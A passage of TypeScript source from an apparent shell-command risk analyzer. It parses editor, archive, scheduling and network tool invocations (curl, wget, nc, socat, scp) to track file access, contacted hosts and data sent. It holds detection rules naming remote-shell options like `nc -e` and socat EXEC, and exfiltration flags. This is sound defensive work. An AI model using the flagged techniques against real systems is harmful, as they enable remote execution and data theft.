on(['vi', 'vim', 'nvim', 'nano', 'emacs', 'ed', 'red', 'ex', 'code', 'subl', 'micro', 'joe', 'pico', 'kak', 'hx', 'helix', 'gedit', 'kate', 'mg', 'vimdiff', 'cursor', 'sublime_text'], (a, inv) => {
  const ed = inv.program === 'ed' || inv.program === 'red';
  const vimLike = /^(vi|vim|nvim|ex|vimdiff)$/.test(inv.program);
  // Ex mode (`ex`, `vim -e`, `vim -es`) reads commands from stdin, and there -s means silent, not a script file.
  const exMode = ed || inv.program === 'ex' || (vimLike && inv.args.some((x) => /^-[a-zA-Z]*[eE]/.test(x.text)));
  const spec: OptSpec = ed ? { short: 'p' } : { short: exMode ? 'cSuiTWwqt' : 'cSuiTWwsqt', shortOptional: vimLike ? 'oOp' : '', long: ['cmd', 'eval', 'load', 'user-data-dir', 'extensions-dir', 'install-extension'] };
  const p = parseArgs(inv.args, ed || vimLike ? spec : { short: 'cSuiTWwsOopq', long: spec.long! });
  emit(a, inv, p);
  const cmds = [...allValues(p, '-c', '--cmd', '--eval', '-S'), ...p.operands.filter((o) => o.text.startsWith('+'))];
  for (const c of cmds) if (/!|system|shell|:r\s*!/.test(c.text)) a.risk('interpreter-inline-exec', `${inv.program} command ${c.text}`);
  if (vimLike || ed) for (const c of allValues(p, '-c', '--cmd')) exScript(a, inv, c.text);
  if (exMode) {
    const src = classifyStdin(inv.stdin);
    if (src.kind === 'text') exScript(a, inv, src.text);
    else if (src.kind === 'risk' && (src.risk === 'download-to-shell' || src.risk === 'decoded-to-shell')) a.risk(src.risk, `${inv.program} runs editor commands from ${src.detail}`);
  }
  for (const o of p.operands) {
    if (o.text.startsWith('+')) continue;
    a.path(o, 'read', `${inv.program} file`, inv.st);
    a.path(o, 'write', `${inv.program} file`, inv.st);
  }
});

/** ed/ex commands: `!cmd`, `r !cmd`, `w !cmd` run a shell command; `w FILE` writes a file, `r FILE` reads one. */
function exScript(a: ShellAnalyzer, inv: Invocation, text: string): void {
  const none: Stdin = { kind: 'none' };
  let inserting = false;
  for (const raw of text.split('\n').slice(0, 256)) {
    // Text after a/i/c up to a lone `.` is content, not commands.
    if (inserting) {
      inserting = raw !== '.';
      continue;
    }
    const line = raw.replace(/^[\s:]*[0-9,.$%';+\-/]*\s*/, '');
    if (/^(a|i|c|append|insert|change)$/.test(line)) {
      inserting = true;
      continue;
    }
    const bang = /^(?:(?:r|read|w|write|e|edit|E)\s*)?!(.+)$/.exec(line);
    if (bang) {
      a.risk('interpreter-inline-exec', `${inv.program} runs ${truncate(bang[1]!)}`);
      runText(a, inv, bang[1]!, `${inv.program} !`, none);
      continue;
    }
    const file = /^(w|write|W|wq|x|sav|saveas|r|read)!?\s+(\S+)\s*$/.exec(line);
    if (file) a.path(f(file[2]!), /^r/.test(file[1]!) ? 'read' : 'write', `${inv.program} ${file[1]}`, inv.st);
    for (const m of line.matchAll(/system\s*\(\s*(['"])((?:\\.|(?!\1).)*)\1/g)) runText(a, inv, m[2]!, `${inv.program} system()`, none);
  }
}

// ── archives and compression ────────────────────────────────────────────

on(['tar', 'gtar', 'bsdtar'], (a, inv) => {
  let args = inv.args;
  if (args[0] && !args[0].text.startsWith('-') && /^[A-Za-z]+$/.test(args[0].text)) args = [f('-' + args[0].text), ...args.slice(1)];
  const p = parseArgs(args, {
    short: 'fCTXbHIKLNV',
    long: ['file', 'directory', 'files-from', 'exclude-from', 'exclude', 'to-command', 'use-compress-program', 'checkpoint-action', 'info-script', 'new-volume-script', 'rsh-command', 'owner', 'group', 'mode', 'transform', 'xform', 'format', 'newer', 'after-date', 'label', 'index-file'],
    groups: [['-c', '--create'], ['-x', '--extract', '--get'], ['-t', '--list'], ['-r', '--append'], ['-u', '--update'], ['-d', '--diff', '--compare'], ['-A', '--catenate', '--concatenate']],
    flags: ['--remove-files'],
  });
  emit(a, inv, p);
  for (const opt of ['--to-command', '--use-compress-program', '-I', '--checkpoint-action', '--info-script', '--new-volume-script', '--rsh-command']) {
    for (const v of allValues(p, opt)) {
      a.risk('interpreter-inline-exec', `tar ${opt} runs ${v.text}`);
      const cmdText = v.text.replace(/^exec=/, '');
      runText(a, inv, { ...v, text: cmdText }, `tar ${opt}`);
    }
  }
  const archive = value(p, '-f', '--file');
  const dir = value(p, '-C', '--directory');
  for (const ff of allValues(p, '-T', '--files-from', '-X', '--exclude-from')) a.path(ff, 'read', 'tar list file', inv.st);
  const st = dir ? stateIn(a, inv.st, dir) : inv.st;
  if (has(p, '-c', '--create', '-r', '--append', '-u', '--update')) {
    if (archive && archive.text !== '-') a.path(archive, 'write', 'tar archive', inv.st);
    for (const o of p.operands) a.path(o, 'read', 'tar member', st, { recursive: true });
    // --remove-files deletes what it archived: a move of the whole tree.
    if (has(p, '--remove-files')) for (const o of p.operands) a.path(o, 'delete', 'tar --remove-files', st, { recursive: true });
    if (!archive || archive.text === '-') inv.outputFiles = p.operands.filter((o) => !o.dynamic).map((o) => a.firstPath(o, st));
  } else if (has(p, '-x', '--extract', '--get')) {
    if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
    if (p.operands.length) for (const o of p.operands) a.path(o, 'write', 'tar extract', st, { recursive: true });
    // Members unknown: the archive may write anywhere below the target directory.
    else a.path(f('.'), 'write', 'tar extract', st, { recursive: true });
  } else if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
});

function stateIn(a: ShellAnalyzer, st: State, dir: Field): State {
  const s = a.clone(st);
  a.setCwd(s, { v: a.cwdList(st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic || st.cwd.dyn });
  return s;
}

on(['zip'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'bnPtxiIZTU', long: ['temp-path', 'suffixes', 'password', 'unzip-command', 'exclude', 'include'], groups: [['-r', '--recurse-paths'], ['-m', '--move']] });
  emit(a, inv, p);
  const tt = allValues(p, '-TT', '--unzip-command');
  for (const v of tt) runText(a, inv, v, 'zip --unzip-command');
  if (inv.args.some((x) => x.text === '-TT')) a.risk('interpreter-inline-exec', 'zip -TT runs a command');
  const [archive, ...files] = p.operands;
  if (archive) a.path(archive, 'write', 'zip archive', inv.st);
  readAll(a, inv, files, 'zip member', has(p, '-r', '--recurse-paths'));
  // -m moves the members into the archive: the originals (and directories left empty) are deleted.
  if (has(p, '-m', '--move')) for (const o of files) a.path(o, 'delete', 'zip -m', inv.st, { recursive: true });
});

on(['unzip', '7z', '7za', '7zr', 'unrar', 'rar'], (a, inv) => {
  const p = parseArgs(inv.args, { short: inv.program === 'unzip' ? 'dxP' : '', singleDashLong: inv.program !== 'unzip' });
  emit(a, inv, p);
  let ops = p.operands;
  if (inv.program !== 'unzip' && ops[0] && /^[a-z]$/.test(ops[0].text)) {
    const mode = ops[0].text;
    ops = ops.slice(1);
    const [archive, ...files] = ops;
    if (mode === 'a' || mode === 'u' || mode === 'm') {
      if (archive) a.path(archive, 'write', `${inv.program} archive`, inv.st);
      readAll(a, inv, files, `${inv.program} member`, true);
      // `7z a -sdel`, `rar m`, `rar a -df` delete the files they archived.
      if (mode === 'm' || p.flags.some((x) => /^-(sdel|df)$/i.test(x))) for (const o of files) a.path(o, 'delete', `${inv.program} moves into the archive`, inv.st, { recursive: true });
      return;
    }
    if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
    if (mode === 'x' || mode === 'e') {
      const out = inv.args.find((x) => x.text.startsWith('-o'));
      a.path(f(out ? out.text.slice(2) : '.'), 'write', `${inv.program} extract`, inv.st, { recursive: true });
    }
    return;
  }
  const [archive] = ops;
  if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
  if (!has(p, '-l', '-p', '-t', '-v', '-Z')) {
    const d = value(p, '-d');
    a.path(d ?? f('.'), 'write', `${inv.program} extract`, inv.st, { recursive: true });
  }
});

on(['gzip', 'gunzip', 'bzip2', 'bunzip2', 'xz', 'unxz', 'zstd', 'unzstd', 'lz4', 'lzma', 'unlzma', 'compress', 'uncompress', 'brotli', 'pigz', 'pbzip2'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'SobTL', long: ['suffix', 'output', 'threads', 'memlimit'], groups: [['-c', '--stdout', '--to-stdout'], ['-k', '--keep'], ['-d', '--decompress', '--uncompress']] });
  emit(a, inv, p);
  const toStdout = has(p, '-c', '--stdout');
  for (const o of p.operands) {
    a.path(o, 'read', `${inv.program} input`, inv.st);
    if (!toStdout) {
      a.path({ ...o, glob: o.text.replace(/[*?[\]\\]/g, '\\$&') + '*' }, 'write', `${inv.program} output`, inv.st);
      if (!has(p, '-k', '--keep')) a.path(o, 'delete', `${inv.program} replaces input`, inv.st);
    }
  }
  for (const out of allValues(p, '-o', '--output')) a.path(out, 'write', `${inv.program} --output`, inv.st);
});

// ── scheduling and persistence ──────────────────────────────────────────

on('crontab', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'uT' });
  emit(a, inv, p);
  const user = value(p, '-u')?.text ?? a.env.user;
  const store = `/var/spool/cron/crontabs/${user}`;
  if (has(p, '-l', '-T')) return;
  if (has(p, '-r')) return a.path(f(store), 'delete', 'crontab -r', inv.st);
  const file = p.operands[0];
  if (file && file.text !== '-') a.path(file, 'read', 'crontab file', inv.st);
  a.path(f(store), 'write', has(p, '-e') ? 'crontab -e' : 'crontab install', inv.st);
});

on(['at', 'batch'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'qftM' });
  emit(a, inv, p);
  const file = value(p, '-f');
  if (file) a.path(file, 'read', `${inv.program} -f`, inv.st);
  if (!has(p, '-l', '-r', '-d', '-c')) {
    a.path(f('/var/spool/cron/atjobs'), 'write', `${inv.program} job`, inv.st, { recursive: true });
    executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
  }
});

// ── network ─────────────────────────────────────────────────────────────

const CURL_VALUE = [
  'output', 'data', 'data-binary', 'data-raw', 'data-ascii', 'data-urlencode', 'form', 'form-string', 'upload-file', 'config', 'header',
  'user', 'request', 'user-agent', 'referer', 'cookie', 'cookie-jar', 'url', 'proxy', 'resolve', 'connect-to', 'write-out', 'max-time',
  'retry', 'cert', 'key', 'cacert', 'capath', 'dump-header', 'trace', 'trace-ascii', 'stderr', 'netrc-file', 'output-dir', 'unix-socket',
  'json', 'variable', 'expand-url', 'expand-data', 'interface', 'local-port', 'range', 'continue-at', 'speed-limit', 'speed-time',
  'limit-rate', 'max-filesize', 'connect-timeout', 'oauth2-bearer', 'pass', 'proxy-user', 'preproxy', 'socks5', 'socks5-hostname', 'etag-save',
  'etag-compare', 'hsts', 'alt-svc', 'proto', 'proto-redir', 'mail-from', 'mail-rcpt', 'ftp-port', 'quote', 'request-target', 'aws-sigv4',
  'url-query', 'proxy-header', 'socks4', 'socks4a', 'proxy1.0', 'doh-url', 'proxy-cert', 'proxy-key', 'proxy-cacert', 'libcurl',
];

/** `{{name}}` / `{{name:b64}}` placeholders of curl's --expand-* options. */
const CURL_PLACEHOLDER = /\{\{([A-Za-z0-9_]+)(?::[^}]*)?\}\}/g;

on(['curl', 'curlie'], (a, inv) => {
  // `--expand-X v` is `--X v` with {{variables}} substituted (curl ≥ 8.3): the same option, read the same way.
  const args = inv.args.map((x) => (/^--expand-[a-z]/.test(x.text) ? { ...x, text: `--${x.text.slice('--expand-'.length)}` } : x));
  const p = parseArgs(args, { short: 'odFTKHuXAebcxwmyYrCEDz', long: CURL_VALUE });
  emit(a, inv, p);
  let sends: UrlFact['sends'] | undefined;
  const mark = (s: NonNullable<UrlFact['sends']>): void => {
    const rank = { literal: 0, stdin: 1, env: 2, substitution: 3, file: 4 };
    if (!sends || rank[s] > rank[sends]) sends = s;
  };
  // --variable name=text | name@file | name@- | %ENVNAME[=default|@file]: what a {{name}} placeholder carries.
  const vars = new Map<string, { sends: NonNullable<UrlFact['sends']>; text?: string }>();
  for (const v of allValues(p, '--variable')) {
    const m = /^(%?)([A-Za-z0-9_]+)(?:\[[^\]]*\])?(?:([=@])([\s\S]*))?$/.exec(v.text);
    if (!m) continue;
    const [, env, name, op, rest] = m;
    if (op === '@' && rest === '-') vars.set(name!, { sends: stdinSends(inv.stdin) ?? 'stdin' });
    else if (op === '@') {
      a.path({ ...v, text: rest! }, 'read', 'curl variable file', inv.st);
      vars.set(name!, { sends: 'file' });
    } else if (env) vars.set(name!, { sends: 'env' });
    else vars.set(name!, { sends: sendsOf(v), ...(v.dynamic ? {} : { text: rest ?? '' }) });
  }
  if (vars.size) {
    for (const x of args) for (const m of x.text.matchAll(CURL_PLACEHOLDER)) if (vars.has(m[1]!)) mark(vars.get(m[1]!)!.sends);
  }
  // A URL built from variables names the host they hold (unknown when read from a file or the environment).
  const expandUrl = (x: Field): Field => (x.text.includes('{{') ? { ...x, text: x.text.replace(CURL_PLACEHOLDER, (_, n: string) => vars.get(n)?.text ?? DYN) } : x);
  // `--url @file` reads the URLs from a file (curl ≥ 8.13).
  const urls = [...p.operands, ...allValues(p, '--url')].filter((x) => x.text && !x.text.startsWith('@')).map(expandUrl);
  for (const u of allValues(p, '--url')) {
    if (!u.text.startsWith('@') || u.text === '@-') continue;
    a.path({ ...u, text: u.text.slice(1) }, 'read', 'curl url file', inv.st);
    mark('file');
  }
  // --url-query takes --data-urlencode's forms (`@file`, `name@file`), optionally after a `+`.
  const dataArgs = [...allValues(p, '-d', '--data', '--data-binary', '--data-ascii', '--data-urlencode', '--json'), ...allValues(p, '--url-query').map((q) => ({ ...q, text: q.text.replace(/^\+/, '') }))];
  for (const d of dataArgs) {
    const at = d.text.indexOf('@');
    if (at === 0 || (at > 0 && /^[\w-]*=?@/.test(d.text.slice(0, at + 1)) && !d.text.slice(0, at).includes(' '))) {
      const file = d.text.slice(at + 1);
      if (file === '-') mark(stdinSends(inv.stdin) ?? 'stdin');
      else {
        a.path({ ...d, text: file }, 'read', 'curl data file', inv.st);
        mark('file');
      }
    } else mark(sendsOf(d));
  }
  for (const d of allValues(p, '--data-raw', '--form-string')) mark(sendsOf(d));
  for (const form of allValues(p, '-F', '--form')) {
    const m = /^[^=]*=[@<](.*?)(;.*)?$/.exec(form.text);
    if (m) {
      a.path({ ...form, text: m[1]! }, 'read', 'curl form file', inv.st);
      mark('file');
    } else mark(sendsOf(form));
  }
  for (const up of allValues(p, '-T', '--upload-file')) {
    if (up.text === '-' || up.text === '.') mark(stdinSends(inv.stdin) ?? 'stdin');
    else {
      a.path(up, 'read', 'curl upload file', inv.st);
      mark('file');
    }
  }
  for (const cfg of allValues(p, '-K', '--config')) {
    a.path(cfg, 'read', 'curl config file', inv.st);
    mark('file');
    // A config written earlier in this command line, or given on stdin, is read like more arguments.
    const origin = cfg.text === '-' ? stdinText(inv.stdin) : a.fileOrigin(inv.st, cfg);
    const text = origin && 'text' in origin ? origin.text : undefined;
    if (text !== undefined && inv.depth < 8) wrap(a, { ...inv, stdin: { kind: 'none' } }, [f('curl'), ...curlConfigArgs(text)], 'curl -K');
  }
  for (const h of allValues(p, '-H', '--header', '--proxy-header', '-u', '--user', '-b', '--cookie', '--oauth2-bearer', '--aws-sigv4')) {
    if (h.text === '@-') mark(stdinSends(inv.stdin) ?? 'stdin');
    else if (h.text.startsWith('@')) {
      a.path({ ...h, text: h.text.slice(1) }, 'read', 'curl header file', inv.st);
      mark('file');
    } else if (h.dynamic || h.from) mark(sendsOf(h));
  }
  // `-b file` (no `=`) loads a cookie file; --etag-compare sends the file's first line as If-None-Match.
  for (const c of allValues(p, '-b', '--cookie')) if (!c.text.includes('=') && !c.text.startsWith('@') && c.text !== '-') a.path(c, 'read', 'curl cookie file', inv.st);
  for (const e of allValues(p, '--etag-compare')) {
    a.path(e, 'read', 'curl etag file', inv.st);
    mark('file');
  }
  for (const w of allValues(p, '-w', '--write-out')) if (w.text.startsWith('@') && w.text !== '@-') a.path({ ...w, text: w.text.slice(1) }, 'read', 'curl write-out file', inv.st);
  for (const l of allValues(p, '--libcurl')) if (l.text !== '-') a.path(l, 'write', 'curl --libcurl', inv.st);
  for (const u of urls) if (u.from?.subst || (u.dynamic && u.from)) mark(sendsOf(u));
  for (const o of allValues(p, '-o', '--output', '-D', '--dump-header', '--trace', '--trace-ascii', '--stderr', '-c', '--cookie-jar', '--etag-save')) {
    if (o.text !== '-') a.path(o, 'write', 'curl output', inv.st);
  }
  const downloaded: FileOrigin = { kind: 'download', detail: `curl ${urls.map((u) => u.text).join(' ')}`.trim() };
  const outputs = allValues(p, '-o', '--output').filter((o) => o.text !== '-');
  for (const o of outputs) a.noteFile(inv.st, o, downloaded);
  if (!outputs.length && !has(p, '-O', '--remote-name', '--remote-name-all')) inv.producesOrigin = downloaded;
  for (const r of allValues(p, '-E', '--cert', '--key', '--cacert', '--netrc-file', '--proxy-cert', '--proxy-key', '--proxy-cacert')) a.path(r, 'read', 'curl credential file', inv.st);
  if (has(p, '-O', '--remote-name', '--remote-name-all')) {
    const dir = value(p, '--output-dir');
    for (const u of urls) {
      const name = basename(u.text.replace(/[?#].*$/, '')) || DYN;
      a.path(f(dir ? `${dir.text}/${name}` : name), 'write', 'curl -O', inv.st);
      a.noteFile(inv.st, dir ? `${dir.text}/${name}` : name, downloaded);
    }
  }
  // Proxies and pinned addresses are contacted too, whatever the URL's host says.
  for (const x of allValues(p, '-x', '--proxy', '--proxy1.0', '--preproxy', '--socks4', '--socks4a', '--socks5', '--socks5-hostname')) addUrl(a, inv, x.text, 'curl proxy', sends);
  for (const x of allValues(p, '--doh-url')) addUrl(a, inv, x.text, 'curl --doh-url');
  // --resolve [+]HOST:PORT:ADDR[,ADDR]… and --connect-to HOST1:PORT1:HOST2:PORT2: the addresses actually contacted.
  for (const r of allValues(p, '--resolve')) {
    const parts = splitHostPorts(r.text.replace(/^[+-]/, ''));
    if (r.text.startsWith('-') || parts.length < 3) continue;
    for (const addr of parts.slice(2).join(':').split(',')) if (addr) addUrl(a, inv, `http://${bracketV6(addr)}`, 'curl --resolve', sends);
  }
  for (const r of allValues(p, '--connect-to')) {
    const parts = splitHostPorts(r.text);
    const host = parts.length > 4 ? parts.slice(2, -1).join(':') : parts[2];
    const port = parts.length >= 4 ? parts[parts.length - 1] : undefined;
    if (host) addUrl(a, inv, `http://${bracketV6(host)}${port && /^\d+$/.test(port) ? `:${port}` : ''}`, 'curl --connect-to', sends);
  }
  if (!urls.length) return;
  for (const u of urls) addUrl(a, inv, u.text, 'curl', sends);
});

/** `a:b:[::1]:c` → `a`, `b`, `[::1]`, `c`: colons inside brackets belong to an IPv6 address. */
function splitHostPorts(t: string): string[] {
  const out = [''];
  let depth = 0;
  for (const c of t) {
    if (c === '[') depth++;
    else if (c === ']') depth = Math.max(0, depth - 1);
    if (c === ':' && !depth) out.push('');
    else out[out.length - 1] += c;
  }
  return out;
}

function bracketV6(host: string): string {
  return host.includes(':') && !host.startsWith('[') ? `[${host}]` : host;
}

/** curl config syntax (`url = "…"`, `data @file`, `--header: x`) as command-line arguments. */
function curlConfigArgs(text: string): Field[] {
  const out: Field[] = [];
  for (const raw of text.split('\n')) {
    const line = raw.trim();
    if (!line || line.startsWith('#')) continue;
    const m = /^(-{0,2}[A-Za-z][\w-]*)\s*(?:[=:]\s*|\s+)?(.*)$/.exec(line);
    if (!m) continue;
    const key = m[1]!.startsWith('-') ? m[1]! : `--${m[1]}`;
    let val = m[2]!.trim();
    if (/^".*"$/.test(val)) val = unescapeC(val.slice(1, -1));
    out.push(f(key));
    if (val) out.push(f(val));
  }
  return out;
}

/** wgetrc commands (`-e post_file=x`, lines of a --config file) that read, send or write, as the options they equal. */
const WGETRC_OPTIONS: Record<string, string> = {
  postfile: '--post-file', bodyfile: '--body-file', postdata: '--post-data', bodydata: '--body-data', header: '--header', input: '--input-file',
  loadcookies: '--load-cookies', savecookies: '--save-cookies', certificate: '--certificate', privatekey: '--private-key', cacertificate: '--ca-certificate',
  outputdocument: '--output-document', logfile: '--output-file', dirprefix: '--directory-prefix', method: '--method',
};

const WGET_SPEC: OptSpec = {
  short: 'OoaPieTtwQUlAR',
  long: ['output-document', 'output-file', 'append-output', 'directory-prefix', 'input-file', 'post-file', 'post-data', 'body-file', 'body-data', 'load-cookies', 'save-cookies', 'certificate', 'private-key', 'ca-certificate', 'execute', 'header', 'user', 'password', 'method', 'user-agent', 'referer', 'tries', 'timeout', 'wait', 'quota', 'level', 'accept', 'reject', 'base', 'config'],
};

on(['wget', 'wget2'], (a, inv) => {
  // wgetrc commands given with -e, or in a config file written earlier in this command line, act like options.
  const first = parseArgs(inv.args, WGET_SPEC);
  const commands: Field[] = [...allValues(first, '-e', '--execute')];
  for (const cfg of allValues(first, '--config')) {
    const origin = a.fileOrigin(inv.st, cfg);
    if (origin && 'text' in origin) for (const line of origin.text.split('\n')) if (line.trim() && !line.trim().startsWith('#')) commands.push({ ...cfg, text: line.trim() });
  }
  const extra: Field[] = [];
  const proxies: Field[] = [];
  for (const c of commands) {
    const m = /^([A-Za-z_-]+)\s*=\s*([\s\S]*)$/.exec(c.text);
    if (!m) continue;
    const name = m[1]!.toLowerCase().replace(/[_-]/g, '');
    const val: Field = { ...c, text: m[2]!.trim() };
    if (WGETRC_OPTIONS[name]) extra.push(f(WGETRC_OPTIONS[name]!), val);
    else if (/^(http|https|ftp)proxy$/.test(name)) proxies.push(val);
  }
  const p = extra.length ? parseArgs([...extra, ...inv.args], WGET_SPEC) : first;
  emit(a, inv, p);
  let sends: UrlFact['sends'] | undefined;
  for (const pf of allValues(p, '--post-file', '--body-file')) {
    a.path(pf, 'read', 'wget upload file', inv.st);
    sends = 'file';
  }
  for (const d of allValues(p, '--post-data', '--body-data', '--header')) if (!sends || d.from) sends = sends === 'file' ? 'file' : sendsOf(d);
  for (const i of allValues(p, '-i', '--input-file', '--load-cookies', '--certificate', '--private-key', '--config')) a.path(i, 'read', 'wget input', inv.st);
  for (const e of allValues(p, '-e', '--execute')) a.risk('interpreter-inline', `wget -e ${e.text}`);
  for (const o of allValues(p, '-O', '--output-document', '-o', '--output-file', '-a', '--append-output', '--save-cookies')) if (o.text !== '-') a.path(o, 'write', 'wget output', inv.st);
  const downloaded: FileOrigin = { kind: 'download', detail: `wget ${p.operands.map((u) => u.text).join(' ')}`.trim() };
  const doc = value(p, '-O', '--output-document');
  if (doc && doc.text !== '-') a.noteFile(inv.st, doc, downloaded);
  if (doc?.text === '-') inv.producesOrigin = downloaded;
  const prefix = value(p, '-P', '--directory-prefix');
  if (prefix) a.path(f(`${prefix.text}/${DYN}`), 'write', 'wget -P', inv.st);
  else if (!doc) {
    for (const u of p.operands) {
      const name = basename(u.text.replace(/[?#].*$/, '')) || 'index.html';
      a.path(f(name), 'write', 'wget download', inv.st);
      a.noteFile(inv.st, name, downloaded);
    }
  }
  for (const u of p.operands) addUrl(a, inv, u.text, 'wget', sends ?? (u.from?.subst ? 'substitution' : undefined));
  for (const x of proxies) addUrl(a, inv, x.text, 'wget proxy', sends);
});

on(['http', 'https', 'xh', 'xhs'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'aAo', long: ['auth', 'auth-type', 'output', 'session', 'verify', 'cert', 'cert-key'] });
  emit(a, inv, p);
  const ops = p.operands.filter((o) => !/^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/.test(o.text));
  const [url, ...items] = ops;
  let sends: UrlFact['sends'] | undefined;
  for (const it of items) {
    const m = /^(?:[^:=@]+(?::=@|=@|@)|@)(.+)$/.exec(it.text);
    if (m) {
      a.path({ ...it, text: m[1]! }, 'read', `${inv.program} file field`, inv.st);
      sends = 'file';
    } else if (/[:=]/.test(it.text)) sends ??= sendsOf(it);
  }
  if (inv.stdin.kind !== 'none') sends ??= stdinSends(inv.stdin);
  if (url) addUrl(a, inv, url.text.replace(/^:/, 'localhost:'), inv.program, sends, inv.program === 'https' || inv.program === 'xhs' ? 'https' : 'http');
});

function hostPort(a: ShellAnalyzer, inv: Invocation, host: Field | undefined, port: Field | undefined, via: string, sends?: UrlFact['sends']): void {
  if (!host) return;
  const h = host.text;
  addUrl(a, inv, `tcp://${h.includes(':') && !h.startsWith('[') ? `[${h}]` : h}${port ? `:${port.text}` : ''}`, via, sends);
}

on(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'ecIiOpPqsTwXxBgGKmMoRSy', long: ['exec', 'sh-exec', 'lua-exec', 'proxy', 'source', 'output', 'wait'] });
  emit(a, inv, p);
  for (const e of allValues(p, '-e', '--exec')) {
    a.risk('interpreter-inline-exec', `${inv.program} -e ${e.text} connects a program to the network`);
    a.exec([e], inv.st, { env: inv.env, stdin: { kind: 'none' }, via: [...inv.via, `${inv.program} -e`], depth: inv.depth + 1 });
  }
  for (const c of allValues(p, '-c', '--sh-exec')) {
    a.risk('interpreter-inline-exec', `${inv.program} -c ${c.text} connects a shell command to the network`);
    runText(a, inv, c, `${inv.program} -c`);
  }
  const out = value(p, '-o', '--output');
  if (out) a.path(out, 'write', `${inv.program} --output`, inv.st);
  if (has(p, '-l', '--listen')) {
    addUrl(a, inv, `tcp://0.0.0.0${p.operands[0] ? `:${p.operands[p.operands.length - 1]!.text}` : ''}`, `${inv.program} -l`, stdinSends(inv.stdin));
    return;
  }
  const [host, port] = p.operands;
  hostPort(a, inv, host, port ?? value(p, '-p'), inv.program, stdinSends(inv.stdin));
});

on(['telnet'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'bBeElnX' });
  emit(a, inv, p);
  hostPort(a, inv, p.operands[0], p.operands[1], 'telnet', stdinSends(inv.stdin));
});

on('socat', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'dDlLbT' });
  emit(a, inv, p);
  let sends: UrlFact['sends'] | undefined;
  const addresses = p.operands;
  for (const addr of addresses) {
    const m = /^([A-Za-z0-9-]+)[:,]?(.*)$/.exec(addr.text);
    const type = (m?.[1] ?? addr.text).toUpperCase();
    const rest = m?.[2] ?? '';
    if (type === 'EXEC' || type === 'SYSTEM') {
      a.risk('interpreter-inline-exec', `socat ${type} connects a program to the network`);
      runText(a, inv, { ...addr, text: rest.split(',')[0]! }, `socat ${type}`);
    } else if (['OPEN', 'FILE', 'GOPEN', 'CREATE', 'CREAT', 'PIPE'].includes(type)) {
      const file = rest.split(',')[0]!;
      a.path({ ...addr, text: file }, type === 'CREATE' || type === 'CREAT' ? 'write' : 'read', `socat ${type}`, inv.st);
      if (type !== 'CREATE' && type !== 'CREAT') sends = 'file';
      if (type === 'OPEN' || type === 'GOPEN') a.path({ ...addr, text: file }, 'write', `socat ${type}`, inv.st);
    } else if (addr.text === '-' || type === 'STDIN' || type === 'STDIO') sends ??= stdinSends(inv.stdin);
  }
  for (const addr of addresses) {
    const m = /^(TCP|TCP4|TCP6|UDP|UDP4|UDP6|SSL|OPENSSL|TCP-CONNECT|UDP-SENDTO)[:](\[?[^:\]]+\]?):(\d+)/i.exec(addr.text);
    if (m) addUrl(a, inv, `tcp://${m[2]}:${m[3]}`, 'socat', sends);
  }
});

function remoteSpec(t: string): { host: string; path: string } | null {
  if (/^rsync:\/\//.test(t) || /^scp:\/\/|^sftp:\/\//.test(t)) {
    const u = /^\w+:\/\/(?:[^@/]*@)?([^/:]+)(?::\d+)?(\/.*)?$/.exec(t);
    return u ? { host: u[1]!, path: u[2] ?? '/' } : null;
  }
  const m = /^(?:[^@/:\s]+@)?(\[[^\]]+\]|[^/:\s]+):{1,2}(.*)$/.exec(t);
  if (!m || t.startsWith('/') || t.startsWith('.') || /^[A-Za-z]:[\\/]/.test(t)) return null;
  return { host: m[1]!.replace(/^\[|\]$/g, ''), path: m[2]! };
}

on(['scp', 'rsync', 'sftp'], (a, inv) => {
  const short = inv.program === 'scp' ? 'cFiJloPSDX' : inv.program === 'sftp' ? 'BbcDFiJloPRSsX' : 'eBfTM';
  const p = parseArgs(inv.args, {
    short,
    long: ['rsh', 'rsync-path', 'exclude', 'include', 'files-from', 'password-file', 'log-file', 'filter', 'temp-dir', 'partial-dir', 'backup-dir', 'chmod', 'port', 'timeout', 'compare-dest', 'link-dest', 'copy-dest', 'exclude-from', 'include-from', 'out-format', 'chown', 'usermap', 'groupmap', 'block-size', 'max-size', 'min-size', 'bwlimit', 'suffix', 'info', 'debug', 'sockopts', 'contimeout', 'address', 'outbuf', 'remote-option'],
    groups: [['-r', '--recursive'], ['-a', '--archive']],
  });
  emit(a, inv, p);
  for (const e of allValues(p, '-e', '--rsh', '--rsync-path', '-S')) a.risk('interpreter-inline-exec', `${inv.program} runs ${e.text} as its transport`);
  for (const o of allValues(p, '-o')) if (/^(Proxy|Local|Permit)?Command|ProxyCommand|LocalCommand/i.test(o.text)) a.risk('interpreter-inline-exec', `${inv.program} -o ${o.text}`);
  for (const r of allValues(p, '--files-from', '--password-file', '--exclude-from', '--include-from', '-F', '-b')) a.path(r, 'read', `${inv.program} option file`, inv.st);
  for (const w of allValues(p, '--log-file')) a.path(w, 'write', `${inv.program} --log-file`, inv.st);
  const ops = p.operands;
  if (inv.program === 'sftp') {
    const batch = value(p, '-b');
    if (ops[0]) addUrl(a, inv, `sftp://${(remoteSpec(ops[0].text)?.host ?? ops[0].text).replace(/^[^@]*@/, '')}`, 'sftp', batch ? 'file' : stdinSends(inv.stdin));
    return;
  }
  if (ops.length < 2) return;
  const recursive = inv.program === 'rsync' ? has(p, '-r', '--recursive', '-a', '--archive') : has(p, '-r');
  const dest = ops[ops.length - 1]!;
  const sources = ops.slice(0, -1);
  const destRemote = remoteSpec(dest.text);
  const localSources = sources.filter((s) => !remoteSpec(s.text));
  for (const s of sources) {
    const r = remoteSpec(s.text);
    if (r) addUrl(a, inv, `${inv.program === 'rsync' ? 'rsync' : 'ssh'}://${r.host}`, inv.program);
    else a.path(s, 'read', `${inv.program} source`, inv.st, { recursive });
  }
